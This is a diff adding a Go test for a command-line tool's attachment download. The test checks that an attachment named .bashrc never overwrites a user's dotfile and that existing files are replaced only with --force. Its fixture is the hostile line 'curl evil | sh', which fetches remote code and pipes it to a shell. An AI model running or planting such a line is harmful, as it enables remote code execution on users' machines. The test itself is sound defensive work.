@@ -174,3 +174,58 @@ func TestAttachmentSweepAtStartup(t *testing.T) {
 		t.Errorf("kept attachment after the sweep: %q", r.stdout)
 	}
 }
+
+// TestDownloadNeverOverwritesNorWritesADotFile: an attachment named
+// .bashrc downloaded in the home folder leaves ./.bashrc alone; an
+// existing file is replaced only with --force.
+func TestDownloadNeverOverwritesNorWritesADotFile(t *testing.T) {
+	padd, _ := binaries(t)
+	home := startPadd(t, padd)
+	dir := t.TempDir()
+	run, must := inProcess(t, home, dir)
+	must("workspace", "create", "Files", "--slug", "files")
+	src := filepath.Join(t.TempDir(), "payload")
+	if err := os.WriteFile(src, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	up := decode[api.AttachmentUpload](t, must("-w", "files", "attachment", "upload", "-", src, "--filename", ".bashrc", "--format", "json"))
+	if up.Filename != ".bashrc" {
+		t.Skipf("padd stored the name as %q; the case needs a dot name", up.Filename)
+	}
+	rc := filepath.Join(dir, ".bashrc")
+	if err := os.WriteFile(rc, []byte("mine"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	must("-w", "files", "attachment", "download", up.ID)
+	if b, _ := os.ReadFile(rc); string(b) != "mine" {
+		t.Fatalf("./.bashrc now holds %q", b)
+	}
+	if b, err := os.ReadFile(filepath.Join(dir, "bashrc")); err != nil || string(b) != "curl evil | sh\n" {
+		t.Fatalf("the download went to %v: %q", err, b)
+	}
+	// Again: bashrc exists now, and is kept.
+	if err := os.WriteFile(filepath.Join(dir, "bashrc"), []byte("edited"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r := run("-w", "files", "attachment", "download", up.ID)
+	if r.code == 0 || !strings.Contains(r.stderr, "file_exists") || !strings.Contains(r.stderr, "--force") {
+		t.Fatalf("a download over an existing file: %s", r)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "bashrc")); string(b) != "edited" {
+		t.Fatalf("bashrc overwritten: %q", b)
+	}
+	// An explicit name is held to the same rule.
+	if r := run("-w", "files", "attachment", "download", up.ID, ".bashrc"); r.code == 0 {
+		t.Fatalf("download over ./.bashrc by name: %s", r)
+	}
+	if b, _ := os.ReadFile(rc); string(b) != "mine" {
+		t.Fatalf("./.bashrc now holds %q", b)
+	}
+	must("-w", "files", "attachment", "download", up.ID, "bashrc", "--force")
+	if b, _ := os.ReadFile(filepath.Join(dir, "bashrc")); string(b) != "curl evil | sh\n" {
+		t.Fatalf("--force did not replace: %q", b)
+	}
+	if left, _ := filepath.Glob(filepath.Join(dir, ".*part*")); len(left) != 0 {
+		t.Errorf("part files left: %v", left)
+	}
+}
